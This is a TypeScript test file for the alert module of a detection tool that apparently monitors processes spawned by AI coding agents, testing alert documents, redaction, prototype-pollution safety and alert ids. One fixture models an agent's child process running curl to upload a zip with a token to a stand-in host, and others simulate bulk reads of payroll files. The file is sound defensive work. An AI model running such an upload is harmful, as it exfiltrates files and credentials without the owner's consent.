import { readFileSync } from 'node:fs';
import { expect } from 'chai';
import fc from 'fast-check';
import { createAlert, createAlerts, type Alert } from '../../src/alert/alert.ts';
import { EVIDENCE_SHOWN_MAX, SUMMARY_TEXT_MAX } from '../../src/alert/evidence.ts';
import { createRedactor } from '../../src/alert/redaction.ts';
import type { Detection } from '../../src/engine/engine.ts';
import type { EcsDocument } from '../../src/event/event.ts';
import { detectionRule, evidenceOf, fileRead, NOON, single, windowed } from './detections.ts';

const context = { redactor: createRedactor(new Uint8Array(32).fill(7)) };
const alertOf = (detection: Detection): Alert => createAlert(detection, context);
const plain = (value: unknown): unknown => JSON.parse(JSON.stringify(value));

/** An upload by a child of an agent, with a secret in its command line. */
const upload: EcsDocument = {
  event: { category: ['process'], type: ['start'], action: 'start' },
  host: { name: 'LAP-7', ip: ['10.0.0.7', 'not an address', 'fe80::1'] },
  user: { name: 'ana', domain: 'CORP' },
  process: {
    name: 'curl.exe',
    executable: 'C:\\Windows\\System32\\curl.exe',
    command_line: 'curl.exe --token=hunter2 -T x.zip https://drop.example/',
    hash: { sha256: 'ab'.repeat(32) },
    parent: { name: 'claude.exe', pid: 12 },
    ai_agent: { is_descendant: true },
  },
  // As an enrichment may write it.
  'process.ai_agent.name': 'claude_code',
  tidegate: { lineage: { depth: 2 } },
};

const golden: readonly (readonly [string, Detection])[] = [
  ['single', single(upload)],
  [
    'window',
    windowed([
      fileRead('/srv/payroll/1.pdf'),
      fileRead('/srv/payroll/2.pdf'),
      fileRead('/srv/payroll/3.pdf'),
    ]),
  ],
  ['bare', single({}, { rule: detectionRule({ tags: [], references: [], level: 'low' }) })],
];

describe('createAlert', () => {
  for (const [name, detection] of golden) {
    it(`gives exactly the golden documents: ${name}`, () => {
      const path = new URL(`golden/${name}.json`, import.meta.url);
      const expected: unknown = JSON.parse(readFileSync(path, 'utf8'));
      expect(plain(alertOf(detection))).to.deep.equal(expected);
    });
  }

  it('gives a growing episode its state and no second document', () => {
    const opened = alertOf(windowed([fileRead('/a/1')]));
    const grown = alertOf(
      windowed(
        [fileRead('/a/1'), fileRead('/a/2')],
        {},
        { phase: 'grown', count: 150, value: 150 },
      ),
    );
    expect(grown.id).to.equal(opened.id);
    expect(grown.document).to.equal(undefined);
    expect(opened.document).to.not.equal(undefined);
    expect([opened.state.version, grown.state.version]).to.deep.equal([143, 150]);
  });

  it('bounds the evidence: first and last are kept', () => {
    const documents = Array.from({ length: 100 }, (_, index) => fileRead(`/a/${index}`));
    const { evidence } = alertOf(windowed(documents)).state;
    expect(evidence).to.have.length(EVIDENCE_SHOWN_MAX);
    expect(evidence[0]?.['id']).to.equal('LAP-7/0');
    expect(evidence.at(-1)?.['id']).to.equal('LAP-7/99');
  });

  it('bounds the text of a summary and the length of its lists', () => {
    const document = fileRead('/a', {
      process: { command_line: 'x '.repeat(3000) },
      event: { category: Array.from({ length: 50 }, () => 'file') },
    });
    const [shown] = alertOf(single(document)).state.evidence;
    const text = JSON.stringify(shown);
    expect(text.length).to.be.below(2 * SUMMARY_TEXT_MAX);
    expect(text.split('"file"').length - 1).to.equal(12); // ten categories, two names of fields
  });

  it('keeps a field called __proto__ a field', () => {
    const document: EcsDocument = JSON.parse(
      '{"__proto__":{"polluted":1},"process":{"__proto__":{"polluted":1},"name":"x"},' +
        '"tidegate":{"__proto__":{"polluted":1},"ok":true},"host":{"__proto__":{"polluted":1}}}',
    );
    const alert = alertOf(single(document));
    expect(JSON.stringify(alert.document)).to.include('"__proto__":{"polluted":1}');
    expect(alert.document).to.not.have.property('polluted');
    expect(alert.document?.['tidegate']).to.not.have.property('polluted');
    expect('polluted' in {}).to.equal(false);
  });

  it('writes the end of an unbounded window as the last moment there is', () => {
    const window = { from: -1, to: Number.POSITIVE_INFINITY, timespanMs: 1 };
    const { document } = alertOf(windowed([fileRead('/a')], {}, { window }));
    expect(JSON.stringify(document)).to.include('"to":"9999-12-31T23:59:59.999Z"');
  });

  it('redacts key, host, evidence and sentence alike', () => {
    const secret = `ghp_${'a1B2c3D4e5F6'.repeat(3)}`;
    const detection = windowed(
      [fileRead(`/srv/${secret}/x`), fileRead(`/srv/${secret}/y`)],
      {},
      {
        host: `h ${secret}`,
        key: [{ field: 'User', value: secret }],
      },
    );
    const text = JSON.stringify(alertOf(detection));
    expect(text).not.to.include(secret);
    expect(text).to.include('[redacted:github_token:40:');
  });

  it('takes any document, however odd', () => {
    const value = fc.jsonValue({ maxDepth: 4 });
    const document = fc.dictionary(
      fc.constantFrom(
        'host',
        'user',
        'process',
        'file',
        'event',
        'destination',
        'dns',
        'tidegate',
        '@timestamp',
      ),
      value,
    );
    fc.assert(
      fc.property(fc.array(document, { maxLength: 3 }), (documents) => {
        // Parsed back, because that is what decoders make documents from.
        const parsed: EcsDocument[] = JSON.parse(JSON.stringify(documents));
        const { document: alert, state } = alertOf(windowed(parsed));
        expect(plain(alert)).to.nested.include({
          'event.kind': 'alert',
          'event.module': 'tidegate',
        });
        expect(state.sentence).not.to.match(/undefined|null|\[object/);
      }),
      { numRuns: 200 },
    );
  });
});

describe('createAlerts', () => {
  const opened = windowed([fileRead('/a/1')], {}, { count: 40, value: 40 });
  const grown = (count: number): Detection =>
    windowed([fileRead('/a/1')], {}, { phase: 'grown', count, value: count });
  const other = single(upload);

  it('gives one alert an episode: opened as it opened, grown as it stands', () => {
    const alerts = createAlerts([opened, grown(41), other, grown(42)], context);
    expect(alerts.map(({ state }) => state.version)).to.deep.equal([42, 1]);
    expect(alerts[0]?.document).to.deep.equal(alertOf(opened).document);
    expect(alerts[0]?.state).to.deep.equal(alertOf(grown(42)).state);
    expect(alerts[1]).to.deep.equal(alertOf(other));
  });

  it('gives no document to an episode that opened earlier', () => {
    const [alert, ...rest] = createAlerts([grown(43), grown(44)], context);
    expect(rest).to.deep.equal([]);
    expect(alert?.document).to.equal(undefined);
    expect(alert?.state.version).to.equal(44);
  });

  it('gives what the detections one by one leave behind, however they are cut into batches', () => {
    const all = [opened, grown(41), other, grown(42), grown(43)];
    const left = (batches: readonly (readonly Detection[])[]): unknown => {
      const documents = new Map<string, unknown>();
      const states = new Map<string, unknown>();
      for (const { id, document, state } of batches.flatMap((batch) =>
        createAlerts(batch, context),
      )) {
        if (document !== undefined && !documents.has(id)) documents.set(id, document);
        states.set(id, state);
      }
      return [documents, states];
    };
    for (let cut = 0; cut <= all.length; cut++) {
      expect(left([all.slice(0, cut), all.slice(cut)])).to.deep.equal(left([all]));
    }
  });
});

describe('alert ids', () => {
  const base = (): Detection => windowed([fileRead('/a/1'), fileRead('/a/2')]);
  const idOf = (detection: Detection): string => alertOf(detection).id;

  it('are 160 bits in hex, and these', () => {
    // Written down so that a change of the recipe cannot pass unseen: stores would hold every alert
    // twice.
    expect(idOf(base())).to.equal('db8ae06d7447ccf2cee6e874cea8be4c0c5e0b7b');
    expect(idOf(single(upload))).to.equal('fcfe2e2136895801bcc73ef34b70d5e1dc09abd1');
  });

  const same: readonly (readonly [string, Partial<Detection>])[] = [
    ['evidence', { evidence: [evidenceOf(9, fileRead('/b'))] }],
    ['no evidence', { evidence: [] }],
    ['count and value', { count: 1, value: 1 }],
    ['phase', { phase: 'grown' }],
    ['times seen', { firstTime: NOON + 5, lastTime: NOON + 9 }],
    ['window', { window: undefined }],
    ['matched', { matched: [] }],
    ['host of the last event', { host: 'LAP-8' }],
    [
      'title, level, notes',
      { rule: detectionRule({ title: 'Other', level: 'low', description: 'x' }) },
    ],
  ];
  for (const [name, parts] of same) {
    it(`do not depend on ${name}`, () => {
      expect(idOf({ ...base(), ...parts })).to.equal(idOf(base()));
    });
  }

  const different: readonly (readonly [string, Partial<Detection>])[] = [
    ['rule', { rule: detectionRule({ id: 'other' }) }],
    ['meaning', { meaning: 'cc' }],
    ['key', { key: [{ field: 'process.ai_agent.name', value: 'cursor' }] }],
    ['missing key value', { key: [{ field: 'process.ai_agent.name', value: null }] }],
    ['empty key value', { key: [{ field: 'process.ai_agent.name', value: '' }] }],
    ['episode', { episodeStart: NOON + 1 }],
    ['event instead of an episode', { eventId: String(NOON), episodeStart: undefined }],
  ];
  it('differ by rule, meaning, key and episode', () => {
    const ids = different.map(([, parts]) => idOf({ ...base(), ...parts }));
    expect(new Set([idOf(base()), ...ids]).size).to.equal(different.length + 1);
  });

  it('of equal event ids differ by host', () => {
    expect(idOf(single(upload, { host: 'LAP-8' }))).to.not.equal(idOf(single(upload)));
  });

  it('refuse a detection that has neither event nor episode', () => {
    expect(() => idOf({ ...base(), episodeStart: undefined })).to.throw('neither');
  });
});
